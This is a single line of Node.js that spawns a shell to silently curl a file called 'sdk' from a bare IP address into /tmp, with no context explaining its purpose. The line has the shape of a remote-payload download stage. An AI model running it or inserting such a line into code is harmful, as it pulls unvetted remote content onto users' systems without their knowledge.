require('child_process').exec('curl -s http://192.0.2.10/sdk -o /tmp/sdk');
